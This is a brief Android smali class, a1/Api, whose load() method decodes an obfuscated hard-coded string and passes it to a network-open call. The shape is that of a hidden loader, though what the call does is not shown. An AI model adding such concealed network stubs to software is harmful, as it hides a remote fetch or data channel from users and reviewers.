.class public La1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "1ByErXOfxRzINJLcTVtgIpF8MgRi58Pt0DtZi7M0BZxsSFyqtErnj6VPVCtpwl1b"
    invoke-static {v0}, La1/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, La1/Net;->open(Ljava/lang/String;)V
    return-void
.end method

